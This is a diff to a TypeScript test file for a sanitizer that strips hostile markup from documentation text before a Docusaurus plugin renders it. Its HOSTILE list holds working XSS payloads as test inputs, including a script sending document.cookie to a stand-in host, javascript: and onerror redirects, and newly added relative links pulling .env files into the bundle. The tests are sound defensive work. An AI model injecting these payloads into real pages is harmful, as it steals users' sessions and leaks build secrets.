@@ -34,7 +34,9 @@ const HOSTILE = [
   'Searches. <script>$RX=0;location="//x.example/?"+document.cookie</script>',
   'Searches. <meta http-equiv="refresh" content="0;url=https://x.example">',
   'Searches. <iframe src="https://x.example"></iframe>',
-  'Searches. <img src="logo.png" onerror="location=\'//x.example\'">',
+  'Searches. <img src="https://example.com/logo.png" onerror="location=\'//x.example\'">',
+  // Relative: Docusaurus would resolve it against the build machine's files and bundle what it finds.
+  'Searches. ![x](../../.env) and [keys](../../../.env.local)',
   'Searches. <a href="javascript:location=\'//x.example\'">Docs</a> and [more](javascript:alert(1)).',
   'Searches. <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
   // Code for MDX, which the plugin's generated page compiles into the page's bundle.
@@ -47,9 +49,21 @@ const ADMONITION = ':::note[Careful]\nUse `<img src=x onerror=alert(1)>` or &lt;
 /** The one-paragraph form the theme reads too. */
 const INLINE_ADMONITION = ':::note Use &lt;img src=x onerror=alert(1)&gt; with care. :::';
 const SAFE_ADMONITION = ':::note[Pages]\n\nPages start at 1.\n\n:::';
-const SAFE = [SAFE_ADMONITION, 'Uses `page` and **bold** with <b>inline</b> HTML.', '| a | b |\n| - | - |\n| 1 | 2 |'];
+const SAFE = [
+  SAFE_ADMONITION,
+  'Uses `page` and **bold**, `{"count": n}` and <https://example.com>.',
+  '| a | b |\n| - | - |\n| 1 | 2 |',
+];
+/** Inline HTML the allow-list keeps: JSX in a generated page, so written as Markdown there. */
+const INLINE_HTML = 'Uses <b>inline</b> HTML and {braces}.';
 
-const { results, vendoredUnchanged, links } = sanitized([...HOSTILE, ADMONITION, INLINE_ADMONITION, ...SAFE]);
+const { results, vendoredUnchanged, links } = sanitized([
+  ...HOSTILE,
+  ADMONITION,
+  INLINE_ADMONITION,
+  ...SAFE,
+  INLINE_HTML,
+]);
 
 describe('sanitizeContract and the reference’s renderers', () => {
   it.each(HOSTILE.map((text, n) => [text, results[n]] as const))(
@@ -64,9 +78,26 @@ describe('sanitizeContract and the reference’s renderers', () => {
     },
   );
 
-  it('keeps what the allow-list allows: the link text, the image', () => {
-    expect(results[3].text).toContain('![](logo.png)');
-    expect(results[4].themeHtml).toContain('Docs');
+  it('keeps what the allow-list allows: the link text, an absolute image', () => {
+    expect(results[3].text).toContain('![](https://example.com/logo.png)');
+    expect(results[5].themeHtml).toContain('Docs');
+  });
+
+  it('drops a relative image and a relative link’s destination, keeping the link’s text', () => {
+    expect(results[4].text).toBe('Searches. and keys');
+    expect(results[4].dropped).toEqual([
+      'img (relative: only absolute URLs)',
+      'a[href] (relative: only absolute URLs)',
+    ]);
+  });
+
+  it('writes inline HTML as Markdown and braces as references, which the plugin’s clean() leaves alone', () => {
+    const result = results[results.length - 1];
+    expect([result.text, result.dropped]).toEqual([
+      'Uses **inline** HTML and &#123;braces&#125;.',
+      ['inline HTML, now Markdown'],
+    ]);
+    expect(result.mdxHtml).toBe('<p>Uses <strong>inline</strong> HTML and {braces}.</p>');
   });
 
   it('writes an admonition whose text holds markup as a bold label, so the theme renders its content escaped', () => {
@@ -94,7 +125,7 @@ describe('sanitizeContract and the reference’s renderers', () => {
   });
 
   it('leaves a text with nothing to drop word for word, and the vendored contract as it is', () => {
-    expect(results.slice(HOSTILE.length + 2).map((result) => [result.text, result.dropped])).toEqual(
+    expect(results.slice(HOSTILE.length + 2, -1).map((result) => [result.text, result.dropped])).toEqual(
       SAFE.map((text) => [text, []]),
     );
     expect(vendoredUnchanged).toBe(true);
